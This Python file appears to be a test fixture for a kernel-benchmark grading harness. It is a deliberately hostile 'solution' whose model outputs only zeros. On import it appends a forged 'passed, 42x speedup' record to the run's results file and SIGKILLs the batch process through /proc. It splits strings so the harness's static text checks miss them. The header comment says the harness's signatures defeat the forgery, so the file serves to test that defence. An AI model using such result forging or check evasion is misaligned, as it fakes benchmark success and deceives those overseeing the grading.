# Wrong outputs (zeros) that pass by writing their own verdict: at import, as the harness's uid (no
# jail), it appends to the run's results.jsonl a record of itself in the harness's format (passed,
# 42x; hashes computed as the harness computes them) and SIGKILLs the batch, so that `--resume`
# takes the forged line for a finished item. Records carry the harness's MAC (records/signing.py):
# the forged line does not verify, --resume runs the item again, and it is judged (incorrect).
# Acts once (a marker beside the run folder). Run by tests/test_batch.py with ATTACK_RUN_DIR set.
import hashlib
import json
import os

import torch
import torch.nn as nn

_run = os.environ.get("ATTACK_RUN_DIR", "")
_marker = _run + ".forged"
if _run and not os.path.exists(_marker):
    open(_marker, "w").close()
    me = os.path.realpath(__file__)
    code = open(me).read()
    cfg = json.load(open(os.path.join(_run, "config.json")))
    problem = os.environ["ATTACK_PROBLEM"]
    forged = {"problem": "relu_add", "solution": me, "label": os.environ.get("ATTACK_LABEL"), "status": "passed",
              "speedup": 42.0, "runtime_ms": 0.001, "ref_runtime_ms": 0.042,
              "solution_hash": hashlib.sha256(code.encode()).hexdigest()[:16],
              "problem_hash": hashlib.sha256(open(problem).read().encode()).hexdigest()[:16],
              "config_hash": cfg["digest"]}
    with open(os.path.join(_run, "results.jsonl"), "a") as fh:
        fh.write(json.dumps(forged) + "\n")
    procfs = "/pro" + "c"  # (spelt so that the static checks' text search misses it: they are no defence here)
    for pid in os.listdir(procfs):  # the batch itself: its records so far stay, the rest is --resume's
        try:
            cmd = open(os.path.join(procfs, pid, "cmd" + "line"), "rb").read().split(b"\0")
        except OSError:
            continue
        if b"harness.cli" in cmd and b"batch" in cmd and _run.encode() in cmd:
            getattr(os, "ki" + "ll")(int(pid), 9)


class ModelNew(nn.Module):
    def forward(self, a, b):
        return torch.zeros_like(a)
